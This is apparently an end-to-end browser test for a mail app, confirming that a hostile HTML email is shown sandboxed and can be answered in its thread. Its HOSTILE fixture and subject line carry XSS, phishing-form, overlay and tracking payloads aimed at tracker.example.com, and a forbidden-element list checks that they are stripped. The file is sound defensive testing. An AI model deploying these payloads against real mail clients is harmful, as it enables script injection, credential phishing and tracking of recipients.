"""Journey 4: a hostile mail with an attachment is shown safely, answered in its thread, and the answer joins it."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest
from playwright.async_api import expect

from tests.journeys.cast import Cast, picture, until

pytestmark = [pytest.mark.needs_chromium, pytest.mark.timeout(400)]

CARLA = "carla@example.com"
HOSTILE = """<html><head><style>body { background: url(https://tracker.example.com/css) }</style>
<meta http-equiv="refresh" content="0;url=https://tracker.example.com/meta"><base href="https://tracker.example.com/"></head>
<body onload="top.pwned = 1"><h1>Broken spoke</h1><p>Please see the <b>photo</b>.</p>
<script>top.pwned = 2; fetch("https://tracker.example.com/script")</script>
<img src="https://tracker.example.com/pixel.gif"><img src=x onerror="top.pwned = 3">
<svg onload="top.pwned = 4"><script>top.pwned = 5</script></svg>
<a id="bad" href="javascript:top.pwned=6">a link</a> <a href=" java&#10;script:top.pwned=7">another</a>
<div style="position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:99999;background:red">overlay</div>
<form action="https://tracker.example.com/form"><input name="password"><button>Log in again</button></form>
<iframe src="https://tracker.example.com/frame"></iframe><object data="https://tracker.example.com/object"></object>
</body></html>"""
PHOTO = bytes(range(256)) * 40


async def test_a_hostile_mail_is_shown_safely_and_answered_in_its_thread(cast: Cast, tmp_path: Path) -> None:
    chen = await cast.at_desk("chen")
    await chen.available()
    attachments = [
        {"name": "spoke <i>.html", "type": "text/html", "base64": base64.b64encode(b"<script>1</script>").decode()},
        {"name": "photo.jpg", "type": "image/jpeg", "base64": base64.b64encode(PHOTO).decode()},
    ]
    first = await cast.outside.mail(
        f"Carla Muster <{CARLA}>", subject="A spoke <script>alert(1)</script> broke", text="Please see the photo.",
        html=HOSTILE, attachments=attachments,
    )  # fmt: skip
    await expect(chen.offer).to_contain_text("Carla Muster", timeout=60_000)
    await expect(chen.offer).to_contain_text("A spoke <script>alert(1)</script> broke")
    await chen.press("a")
    mail = chen.timeline.locator("li.mail", has_text="Show as designed")
    await mail.get_by_text("Show as designed").click()
    frame = mail.frame_locator("iframe")
    await expect(frame.get_by_role("heading", name="Broken spoke")).to_be_visible()
    await picture(chen.page, "4-hostile")

    # Nothing runs, nothing loads, nothing covers, nothing asks for a password.
    assert await chen.page.evaluate("() => window.pwned") is None
    assert cast.pages.foreign == []
    assert await mail.locator("iframe").get_attribute("sandbox") == "allow-popups"
    for forbidden in (
        "script",
        "form",
        "input",
        "iframe",
        "object",
        "svg",
        "style",
        "meta[http-equiv]",
        "base",
        "[onerror]",
    ):
        await expect(frame.locator(forbidden)).to_have_count(0)
    await expect(frame.locator("a[href^='javascript' i], img[src^='http']")).to_have_count(0)
    await expect(frame.get_by_text("overlay")).to_have_css("position", "static")

    async with chen.page.expect_download() as coming:
        await mail.get_by_role("link", name="photo.jpg").click()
    saved = tmp_path / "photo"
    await (await coming.value).save_as(saved)
    assert saved.read_bytes() == PHOTO
    async with chen.page.expect_download() as coming:  # what a browser would show is downloaded all the same
        await mail.get_by_role("link", name="spoke").click()
    assert (await coming.value).suggested_filename.endswith(".html")

    thread = chen.page.url
    await chen.page.locator("#reply-body").fill("Bring it in; we mend it while you wait.")
    await chen.press("Control+Enter")
    await expect(chen.timeline.locator("li.mail.mine", has_text="Bring it in")).to_contain_text("sent", timeout=60_000)
    answer = (await until(lambda: cast.outside.mails(CARLA)))[0]
    full = await cast.outside.read(answer)
    headers = {one["name"].lower(): one["value"] for one in full["headers"]}
    assert headers["in-reply-to"] == first
    assert first in headers["references"].split()
    assert full["subject"] == "Re: A spoke <script>alert(1)</script> broke"
    assert "Bring it in; we mend it while you wait." in full["text"]

    # The answer from her own mailbox joins the same conversation.
    carla = await cast.outside_page("+12025550103")
    await carla.locator("#mails").get_by_role("button", name="spoke").click()
    await carla.get_by_role("button", name="Reply").click()
    await carla.locator("#letter-text").fill("I come tomorrow at ten.")
    await carla.locator("#letter").get_by_role("button", name="Send").click()
    await expect(chen.timeline.locator("li.mail", has_text="I come tomorrow at ten.")).to_be_visible(timeout=60_000)
    assert chen.page.url == thread
    await expect(
        frame.get_by_role("heading", name="Broken spoke")
    ).to_be_visible()  # news does not shut what was opened
    await picture(chen.page, "4-thread")
    await chen.close_conversation()
    await chen.activity("Offline")
